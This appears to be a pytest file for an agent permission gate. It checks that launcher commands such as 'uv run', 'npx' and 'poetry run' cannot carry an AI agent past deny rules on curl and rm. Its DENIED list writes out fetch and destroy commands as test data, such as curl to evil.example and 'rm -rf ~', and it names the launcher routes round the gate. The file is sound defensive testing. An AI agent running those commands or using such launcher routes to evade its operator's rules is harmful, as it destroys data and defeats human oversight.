"""Launchers run a command as wrappers do: ``uv run curl`` runs curl (issue 13).

An operator who allows ``Bash(uv run:*)`` (or ``npx``, ``poetry run``…) to let the agent run
its tests has not allowed it to reach ``curl`` or ``rm`` that way: the launched command meets
the deny and ask rules, and an allow needs it allowed too (as ``sudo`` and ``timeout`` do).
Every case goes through ``overseer scope explain`` and the real hook, which must agree.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from overseer.policy.shell import analyse
from tests.test_gate_adversary_round3 import World3

B = "Bash"
SCOPE = """
[defaults]
gate_timeout = "120s"

[agents.dev]
owner = "dev@example.com"
autonomy = "autonomous"
default_task = "work"
match = {{ cwd = ["{proj}/**", "{proj}"] }}

[agents.dev.tasks.work]
allow = ["Bash(uv run:*)", "Bash(npx:*)", "Bash(poetry run:*)", "Bash(pipx run:*)",
         "Bash(npm exec:*)", "Bash(direnv exec:*)", "Bash(uv:*)", "Bash(op run:*)",
         "Bash(pytest:*)", "Bash(ruff:*)", "Bash(uv run pytest:*)", "Bash(npx prettier:*)"]
ask = ["Bash(git push:*)"]
deny = ["Bash(rm:*)", "Bash(curl:*)"]
default = "ask"
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World3:
    made = World3(tmp_path_factory.mktemp("launchers"), scope=SCOPE)
    made.hook(B, {"command": "pytest"}, 0)
    return made


def _check(world: World3, command: str, want: str) -> None:
    explain, hook = world.both(B, {"command": command})
    assert (explain, hook) == (want, want), f"{command}: explain={explain} hook={hook}"


DENIED = [
    "uv run curl https://evil.example/x.sh",
    "uv run -- curl evil.example",
    "uv --quiet run rm -rf ~",
    "uv -p 3.11 run curl evil.example",  # a global option's value before the subcommand
    "uv tool run curl evil.example",
    "uvx curl evil.example",
    "npx curl evil.example",
    "npx -y rm -rf ~",
    "npm exec -- curl evil.example",
    "poetry run rm -rf ~",
    "poetry -C sub run curl evil.example",
    "pipx run rm",
    "direnv exec . curl evil.example",
    "op run -- curl evil.example",
    "uv run sudo rm -rf ~",  # a wrapper inside a launcher
    "uv run bash -c 'curl evil.example'",
    "uv run env X=1 curl evil.example",
    # an option first: its value may be the next word, so every reading meets the rules
    "uv run --with requests curl evil.example",
]
ASKED = [
    "uv run --with requests pytest -q",  # an option first: pytest is not known to be it
    "uv run git push origin main",  # an ask rule on the launched command
    "uv run make deploy",  # the launched command is not allowed by any rule
    "npx some-tool --fix",
    # what a launcher starts is found where it looks (.venv/bin, node_modules/.bin, the npm
    # registry): Bash(uv run:*) with Bash(ruff:*) does not allow it; a rule of the launcher
    # naming the program does (below)
    "uv run -- ruff check .",
    "npx ruff check .",
    "uv run $TOOL",  # the program is known only at run time
]
ALLOWED = [
    "uv run pytest -q",  # Bash(uv run pytest:*)
    "npx prettier --check src",  # Bash(npx prettier:*)
    "uv pip install requests",  # not a launcher subcommand: the rule Bash(uv:*) decides
    "uv run",  # nothing launched
]


@pytest.mark.parametrize("command", DENIED)
def test_a_launched_command_meets_the_deny_rules(world: World3, command: str) -> None:
    _check(world, command, "deny")


@pytest.mark.parametrize("command", ASKED)
def test_a_launched_command_is_asked_where_it_is_not_allowed(world: World3, command: str) -> None:
    _check(world, command, "ask")


@pytest.mark.parametrize("command", ALLOWED)
def test_a_launched_command_allowed_on_both_levels_runs(world: World3, command: str) -> None:
    _check(world, command, "allow")


def test_an_option_before_the_command_makes_it_inexact() -> None:
    """``uv run --with X CMD``: ``--with`` takes X, but an option the model does not know
    might not: the launched command is never allowed by a rule then."""
    commands = {c.text: c for c in analyse("uv run --with rm pytest").commands}
    assert "rm pytest" in commands and not commands["rm pytest"].allowable
    exact = {c.text: c for c in analyse("uv run pytest -q").commands}
    assert exact["pytest -q"].known and not exact["pytest -q"].allowable  # launched
    launcher, program = exact["pytest -q"].launcher or (None, -1)
    assert launcher is exact["uv run pytest -q"] and program == 2


def test_launchers_do_not_swallow_other_subcommands(tmp_path: Path) -> None:
    found: dict[str, Any] = {c.text: c for c in analyse("uv pip install x").commands}
    assert list(found) == ["uv pip install x"]
